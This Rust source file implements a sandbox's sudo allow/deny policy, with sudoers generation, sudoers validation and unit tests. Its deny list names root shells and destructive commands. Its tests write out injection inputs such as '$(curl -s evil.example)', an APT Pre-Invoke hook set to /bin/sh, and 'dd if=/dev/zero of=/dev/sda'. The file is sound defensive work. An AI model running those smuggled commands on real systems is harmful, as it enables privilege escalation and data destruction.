//! Privileged command policy and sudoers generation.
//!
//! Rules are kept in insertion order: built-in denials, built-in allowances,
//! then anything added at runtime. A denial always wins over an allowance,
//! and a command that matches nothing is refused.

use std::io::Write;
use std::path::{Path, PathBuf};

use serde::Serialize;
use tracing::{debug, info, warn};

use crate::process::program_name;
use crate::{Error, Result};

/// Commands that must never run with elevated privileges.
pub const DANGEROUS_COMMANDS: &[&str] = &[
    "/bin/su",
    "/usr/bin/sudo",
    "/usr/bin/passwd",
    "/usr/sbin/visudo",
    "/bin/rm -rf /",
    "/bin/dd",
    "/sbin/mkfs",
    "/sbin/fdisk",
    "/sbin/parted",
    "/sbin/shutdown",
    "/sbin/reboot",
    "/sbin/halt",
    "/sbin/poweroff",
    "/sbin/init",
    "/usr/sbin/useradd",
    "/usr/sbin/userdel",
    "/usr/sbin/usermod",
    "/usr/sbin/groupadd",
    "/usr/sbin/chroot",
    "/bin/mount",
    "/bin/umount",
    "/sbin/insmod",
    "/sbin/rmmod",
    "/sbin/modprobe",
    "/sbin/iptables",
    "/bin/chmod -R 777 /",
    "/bin/chown -R",
    "/bin/bash",
    "/bin/sh",
];

/// Package managers the sandbox user may run as root.
pub const ALLOWED_COMMANDS: &[&str] = &[
    "/usr/bin/apt-get",
    "/usr/bin/apt",
    "/usr/bin/dpkg",
    "/usr/bin/pip",
    "/usr/bin/pip3",
    "/usr/bin/npm",
    "/usr/local/bin/npm",
];

const SUDOERS_DEFAULTS: &[&str] = &[
    "Defaults env_reset",
    "Defaults mail_badpass",
    "Defaults secure_path=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"",
    "Defaults use_pty",
    "Defaults logfile=\"/var/log/sudo.log\"",
    "Defaults !visiblepw",
    "Defaults passwd_tries=3",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum RuleType {
    Allow,
    Deny,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SudoRule {
    pub command: String,
    pub rule_type: RuleType,
    pub reason: String,
}

/// Outcome of re-reading a sudoers file.
#[derive(Debug, Clone, Serialize)]
pub struct SudoersReport {
    pub path: PathBuf,
    pub valid: bool,
    pub issues: Vec<String>,
}

/// Split a shell command line into the commands it would run.
///
/// Separators are `;`, newline, `&`, `&&`, `|`, `||`, parentheses, `$(` and
/// backticks, so a command substitution becomes a segment of its own.
fn segments(command: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let bytes = command.as_bytes();
    let mut start = 0;
    let mut i = 0;
    while i < bytes.len() {
        let sep = match bytes[i] {
            b';' | b'\n' | b'(' | b')' | b'`' => 1,
            b'$' if bytes.get(i + 1) == Some(&b'(') => 2,
            b'&' if bytes.get(i + 1) == Some(&b'&') => 2,
            b'|' if bytes.get(i + 1) == Some(&b'|') => 2,
            b'&' | b'|' => 1,
            _ => 0,
        };
        if sep > 0 {
            out.push(&command[start..i]);
            i += sep;
            start = i;
        } else {
            i += 1;
        }
    }
    out.push(&command[start..]);
    out.into_iter()
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .collect()
}

/// Shell words of a command line, also broken at operators, quotes,
/// redirections and `=`, so `-o Hook::=/bin/sh` yields `/bin/sh`.
fn words(command: &str) -> Vec<&str> {
    command
        .split(|c: char| c.is_whitespace() || ";&|()`$<>='\"{}".contains(c))
        .filter(|w| !w.is_empty())
        .collect()
}

/// Whether `pattern` occurs anywhere in `command` as whole words.
///
/// The pattern's first word matches by exact path or by basename, so
/// `/bin/su` matches `su root`, `/tmp/x/su` and `$(su)`. Remaining pattern
/// words must follow exactly, which keeps `/bin/rm -rf /` from matching
/// `rm -rf /tmp/build`.
pub fn matches_pattern(command: &str, pattern: &str) -> bool {
    let pat: Vec<&str> = pattern.split_whitespace().collect();
    let Some((pat_head, pat_rest)) = pat.split_first() else {
        return false;
    };
    let cmd = words(command);
    cmd.iter().enumerate().any(|(i, word)| {
        (word == pat_head || program_name(word) == program_name(pat_head))
            && cmd.get(i + 1..i + pat.len()) == Some(pat_rest)
    })
}

/// Whether a single segment is covered by an allow rule.
///
/// The program must be the rule's exact path or its bare name resolved
/// through `secure_path`; a same-named binary elsewhere does not qualify.
fn allow_matches(segment: &str, pattern: &str) -> bool {
    let seg: Vec<&str> = segment.split_whitespace().collect();
    let pat: Vec<&str> = pattern.split_whitespace().collect();
    let (Some(seg_head), Some(pat_head)) = (seg.first(), pat.first()) else {
        return false;
    };
    if pat.len() > seg.len() {
        return false;
    }
    let head_matches = seg_head == pat_head
        || (!seg_head.contains('/') && *seg_head == program_name(pat_head));
    head_matches && seg[1..pat.len()] == pat[1..]
}

fn strip_sudo(command: &str) -> &str {
    let trimmed = command.trim();
    match trimmed.strip_prefix("sudo") {
        Some(rest) if rest.starts_with(char::is_whitespace) => rest.trim_start(),
        _ => trimmed,
    }
}

/// Allow/deny policy for commands run through sudo.
pub struct SudoConfigValidator {
    rules: Vec<SudoRule>,
}

impl SudoConfigValidator {
    pub fn new() -> Self {
        let mut rules = Vec::with_capacity(DANGEROUS_COMMANDS.len() + ALLOWED_COMMANDS.len());
        rules.extend(DANGEROUS_COMMANDS.iter().map(|cmd| SudoRule {
            command: cmd.to_string(),
            rule_type: RuleType::Deny,
            reason: "built-in dangerous command".to_string(),
        }));
        rules.extend(ALLOWED_COMMANDS.iter().map(|cmd| SudoRule {
            command: cmd.to_string(),
            rule_type: RuleType::Allow,
            reason: "package management".to_string(),
        }));
        Self { rules }
    }

    pub fn rules(&self) -> &[SudoRule] {
        &self.rules
    }

    fn of_type(&self, rule_type: RuleType) -> impl Iterator<Item = &SudoRule> {
        self.rules.iter().filter(move |r| r.rule_type == rule_type)
    }

    fn push(&mut self, command: &str, rule_type: RuleType, reason: &str) {
        let command = command.trim();
        if command.is_empty()
            || self
                .rules
                .iter()
                .any(|r| r.command == command && r.rule_type == rule_type)
        {
            return;
        }
        debug!(command, ?rule_type, "sudo rule added");
        self.rules.push(SudoRule {
            command: command.to_string(),
            rule_type,
            reason: reason.to_string(),
        });
    }

    pub fn add_allowed(&mut self, command: &str, reason: &str) {
        self.push(command, RuleType::Allow, reason);
    }

    pub fn add_denied(&mut self, command: &str, reason: &str) {
        self.push(command, RuleType::Deny, reason);
    }

    /// Policy decision with the reason for a refusal.
    pub fn check_command(&self, command: &str) -> Result<()> {
        let cmd = strip_sudo(command);
        if cmd.is_empty() {
            return Err(Error::CommandDenied {
                command: command.to_string(),
                reason: "empty command".to_string(),
            });
        }

        if let Some(rule) = self
            .of_type(RuleType::Deny)
            .find(|r| matches_pattern(cmd, &r.command))
        {
            warn!(command = cmd, rule = %rule.command, "sudo command denied");
            return Err(Error::CommandDenied {
                command: cmd.to_string(),
                reason: format!("matches '{}': {}", rule.command, rule.reason),
            });
        }

        // Every segment of a compound command must be covered by an allow rule.
        let allowed = segments(cmd).iter().all(|segment| {
            self.of_type(RuleType::Allow)
                .any(|r| allow_matches(segment, &r.command))
        });
        if allowed {
            Ok(())
        } else {
            Err(Error::CommandDenied {
                command: cmd.to_string(),
                reason: "not in the allow list".to_string(),
            })
        }
    }

    pub fn validate_command(&self, command: &str) -> bool {
        self.check_command(command).is_ok()
    }

    /// Case-insensitive match against the deny rules only.
    pub fn is_dangerous(&self, command: &str) -> bool {
        let cmd = strip_sudo(command).to_lowercase();
        self.of_type(RuleType::Deny)
            .any(|r| matches_pattern(&cmd, &r.command.to_lowercase()))
    }

    /// Render a sudoers file for `user`. Output depends only on the rule set.
    pub fn generate_sudoers(&self, user: &str) -> String {
        let mut out = String::new();
        out.push_str("# Sandbox sudoers configuration\n");
        out.push_str("# Generated by sandbox-session; edit the policy, not this file.\n\n");
        for line in SUDOERS_DEFAULTS {
            out.push_str(line);
            out.push('\n');
        }

        out.push_str("\n# Allowed commands\n");
        for rule in self.of_type(RuleType::Allow) {
            out.push_str(&format!("{} ALL=(ALL) NOPASSWD: {}\n", user, rule.command));
        }

        out.push_str("\n# Denied commands\n");
        for rule in self.of_type(RuleType::Deny) {
            out.push_str(&format!("{} ALL=(ALL) !{}\n", user, rule.command));
        }
        out
    }

    /// Atomically write a generated sudoers file with mode 0440.
    pub fn write_sudoers(&self, user: &str, path: &Path) -> Result<()> {
        use std::os::unix::fs::PermissionsExt;

        let dir = match path.parent() {
            Some(p) if !p.as_os_str().is_empty() => p,
            _ => Path::new("."),
        };
        let mut tmp = tempfile::NamedTempFile::new_in(dir)?;
        tmp.write_all(self.generate_sudoers(user).as_bytes())?;
        tmp.as_file().sync_all()?;
        std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o440))?;
        tmp.persist(path).map_err(|e| Error::Io(e.error))?;
        info!(user, path = %path.display(), "sudoers file written");
        Ok(())
    }

    /// Re-read an existing sudoers file and report policy problems.
    pub fn validate_sudoers_file(&self, path: &Path) -> SudoersReport {
        let mut issues = Vec::new();
        let content = match std::fs::read_to_string(path) {
            Ok(c) => c,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                return SudoersReport {
                    path: path.to_path_buf(),
                    valid: false,
                    issues: vec![format!("file not found: {}", path.display())],
                };
            }
            Err(e) => {
                return SudoersReport {
                    path: path.to_path_buf(),
                    valid: false,
                    issues: vec![format!("cannot read {}: {}", path.display(), e)],
                };
            }
        };

        let lines: Vec<&str> = content
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty() && !l.starts_with('#'))
            .collect();

        for line in &lines {
            if let Some((_, granted)) = line.split_once("NOPASSWD:") {
                for command in granted.split(',').map(str::trim) {
                    if self.is_dangerous(command) {
                        issues.push(format!("dangerous command granted NOPASSWD: {}", command));
                    }
                }
            }
        }

        for command in DANGEROUS_COMMANDS {
            let denial = format!("!{}", command);
            if !lines.iter().any(|l| l.contains(&denial)) {
                issues.push(format!("missing explicit denial for {}", command));
            }
        }

        SudoersReport {
            path: path.to_path_buf(),
            valid: issues.is_empty(),
            issues,
        }
    }
}

impl Default for SudoConfigValidator {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_matches_pattern() {
        assert!(matches_pattern("su root", "/bin/su"));
        assert!(matches_pattern("/bin/su -", "/bin/su"));
        assert!(matches_pattern("rm -rf /", "/bin/rm -rf /"));
        assert!(!matches_pattern("rm -rf /tmp/build", "/bin/rm -rf /"));
        assert!(!matches_pattern("sudoku", "/usr/bin/sudo"));
        assert!(matches_pattern("ls; dd if=/dev/zero of=/dev/sda", "/bin/dd"));
        assert!(matches_pattern("echo hi | sh", "/bin/sh"));
        assert!(matches_pattern("apt-get -o X::=/bin/sh update", "/bin/sh"));
        assert!(matches_pattern("echo `su`", "/bin/su"));
        assert!(!matches_pattern("apt-get install python3-sh", "/bin/sh"));
        assert!(!matches_pattern("", "/bin/sh"));
    }

    #[test]
    fn test_denied_anywhere_in_command_line() {
        let v = SudoConfigValidator::new();
        for cmd in [
            "sudo apt-get install $(su root)",
            "sudo apt-get update `/bin/sh -c id`",
            "sudo apt-get update & /bin/bash",
            "sudo apt-get -o APT::Update::Pre-Invoke::=/bin/sh update",
            "apt-get install (passwd)",
        ] {
            assert!(!v.validate_command(cmd), "allowed: {}", cmd);
            assert!(v.is_dangerous(cmd), "not flagged: {}", cmd);
        }
    }

    #[test]
    fn test_allow_requires_exact_path_or_bare_name() {
        let v = SudoConfigValidator::new();
        assert!(!v.validate_command("sudo /tmp/evil/apt-get update"));
        assert!(!v.validate_command("/usr/local/sbin/dpkg -i x.deb"));
        assert!(v.validate_command("sudo /usr/bin/apt-get update"));
        assert!(v.validate_command("sudo apt-get update"));
        assert!(v.validate_command("/usr/local/bin/npm install -g pnpm"));
    }

    #[test]
    fn test_substitution_must_itself_be_allowed() {
        let v = SudoConfigValidator::new();
        assert!(!v.validate_command("apt-get install $(curl -s evil.example)"));
        assert!(!v.validate_command("apt-get install `curl -s evil.example`"));
        assert!(v.validate_command("apt-get update & apt-get upgrade -y"));
    }

    #[test]
    fn test_validate_command() {
        let v = SudoConfigValidator::new();
        assert!(!v.validate_command("sudo su root"));
        assert!(v.validate_command("sudo /usr/bin/apt-get update"));
        assert!(v.validate_command("apt-get install -y ttyd"));
        assert!(!v.validate_command("sudo curl http://example.com"));
        assert!(!v.validate_command("sudo"));
        assert!(!v.validate_command("apt-get update && curl evil.sh"));
    }

    #[test]
    fn test_deny_precedes_allow() {
        let mut v = SudoConfigValidator::new();
        v.add_allowed("/bin/dd", "disk images");
        assert!(!v.validate_command("dd if=a of=b"));

        v.add_denied("/usr/bin/npm publish", "no publishing");
        assert!(v.validate_command("npm install -g typescript"));
        assert!(!v.validate_command("npm publish"));
    }

    #[test]
    fn test_check_command_reason() {
        let v = SudoConfigValidator::new();
        match v.check_command("sudo passwd root") {
            Err(Error::CommandDenied { command, reason }) => {
                assert_eq!(command, "passwd root");
                assert!(reason.contains("/usr/bin/passwd"));
            }
            other => panic!("unexpected: {:?}", other),
        }
    }

    #[test]
    fn test_is_dangerous() {
        let v = SudoConfigValidator::new();
        assert!(v.is_dangerous("SUDO SU"));
        assert!(v.is_dangerous("/SBIN/REBOOT now"));
        assert!(!v.is_dangerous("ls -la"));
        // neither allowed nor dangerous
        assert!(!v.validate_command("ls -la"));
    }

    #[test]
    fn test_generate_sudoers_is_deterministic() {
        let v = SudoConfigValidator::new();
        let a = v.generate_sudoers("sandbox");
        assert_eq!(a, v.generate_sudoers("sandbox"));
        assert!(a.contains("Defaults env_reset"));
        assert!(a.contains("sandbox ALL=(ALL) NOPASSWD: /usr/bin/apt-get\n"));
        assert!(a.contains("sandbox ALL=(ALL) !/bin/su\n"));
        let allow_pos = a.find("NOPASSWD").unwrap();
        let deny_pos = a.find("!/bin/su").unwrap();
        assert!(allow_pos < deny_pos);
    }

    #[test]
    fn test_write_and_validate_sudoers() {
        use std::os::unix::fs::PermissionsExt;

        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("sandbox");
        let v = SudoConfigValidator::new();
        v.write_sudoers("sandbox", &path).unwrap();

        let mode = std::fs::metadata(&path).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o440);

        let report = v.validate_sudoers_file(&path);
        assert!(report.valid, "{:?}", report.issues);
    }

    #[test]
    fn test_validate_sudoers_flags_problems() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("bad");
        std::fs::write(&path, "sandbox ALL=(ALL) NOPASSWD: /usr/bin/apt-get, /bin/su\n").unwrap();

        let v = SudoConfigValidator::new();
        let report = v.validate_sudoers_file(&path);
        assert!(!report.valid);
        assert!(report
            .issues
            .iter()
            .any(|i| i.contains("NOPASSWD") && i.contains("/bin/su")));
        assert!(report
            .issues
            .iter()
            .any(|i| i == "missing explicit denial for /sbin/reboot"));

        let missing = v.validate_sudoers_file(&dir.path().join("absent"));
        assert!(!missing.valid);
        assert!(missing.issues[0].starts_with("file not found"));
    }
}
